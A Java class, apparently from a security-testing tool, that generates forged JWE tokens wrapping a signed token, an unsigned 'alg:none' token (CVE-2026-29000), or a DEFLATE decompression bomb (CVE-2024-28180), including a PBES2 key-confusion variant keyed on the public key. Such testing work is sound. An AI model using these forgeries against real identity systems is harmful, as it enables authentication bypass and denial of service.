package dev.assay.identity.forgery;

import static java.nio.charset.StandardCharsets.UTF_8;

import com.fasterxml.jackson.annotation.JsonProperty;
import com.nimbusds.jose.CompressionAlgorithm;
import com.nimbusds.jose.EncryptionMethod;
import com.nimbusds.jose.JOSEException;
import com.nimbusds.jose.JWEAlgorithm;
import com.nimbusds.jose.JWEEncrypter;
import com.nimbusds.jose.JWEHeader;
import com.nimbusds.jose.JWEObject;
import com.nimbusds.jose.Payload;
import com.nimbusds.jose.crypto.DirectEncrypter;
import com.nimbusds.jose.crypto.PasswordBasedEncrypter;
import com.nimbusds.jose.crypto.RSAEncrypter;
import java.security.SecureRandom;

/**
 * A token in five parts: encrypted (RFC 7516). A registry owns no key to decrypt it with.
 *
 * @param algorithm {@code alg}: {@code dir}, {@code RSA-OAEP}, {@code RSA1_5} or {@code PBES2-HS256+A128KW}
 * @param content what is encrypted
 */
record Encryption(String algorithm, Content content) implements Serialisation {

    private static final int SALT_OCTETS = 16;
    private static final int ITERATIONS = 1_000;
    private static final int INFLATED_OCTETS = 16 * 1024 * 1024;

    /** What a forger encrypts. */
    enum Content {
        /** The signed token. */
        @JsonProperty("token")
        TOKEN,
        /** The same claims in a token without a signature (CVE-2026-29000). */
        @JsonProperty("unsigned-token")
        UNSIGNED_TOKEN,
        /** Compressed blanks, thousands of times as long when inflated (CVE-2024-28180). */
        @JsonProperty("inflating")
        INFLATING
    }

    @Override
    public String write(Parts parts, Workbench bench) {
        var header = new JWEHeader.Builder(JWEAlgorithm.parse(algorithm), EncryptionMethod.A128GCM)
                .contentType("JWT")
                .keyID(bench.circumstances().key().keyId());
        if (content == Content.INFLATING) {
            header.compressionAlgorithm(CompressionAlgorithm.DEF);
        }
        try {
            var token = new JWEObject(header.build(), new Payload(plainText(parts)));
            token.encrypt(encrypter(bench));
            return token.serialize();
        } catch (JOSEException e) {
            throw new IllegalStateException(algorithm + " is not available in this Java runtime", e);
        }
    }

    private String plainText(Parts parts) {
        return switch (content) {
            case TOKEN -> parts.compact();
            case UNSIGNED_TOKEN ->
                Encoding.base64url("{\"alg\":\"none\"}".getBytes(UTF_8)) + "." + parts.payload() + ".";
            case INFLATING -> " ".repeat(INFLATED_OCTETS);
        };
    }

    private JWEEncrypter encrypter(Workbench bench) throws JOSEException {
        var key = bench.circumstances().key();
        return switch (algorithm) {
            case "dir" -> new DirectEncrypter(contentKey());
            case "PBES2-HS256+A128KW" ->
                new PasswordBasedEncrypter(HmacSecret.SPKI_PEM.octets(key), SALT_OCTETS, ITERATIONS);
            default -> new RSAEncrypter(key.publicKey());
        };
    }

    private static byte[] contentKey() {
        var key = new byte[EncryptionMethod.A128GCM.cekBitLength() / 8];
        new SecureRandom().nextBytes(key);
        return key;
    }
}
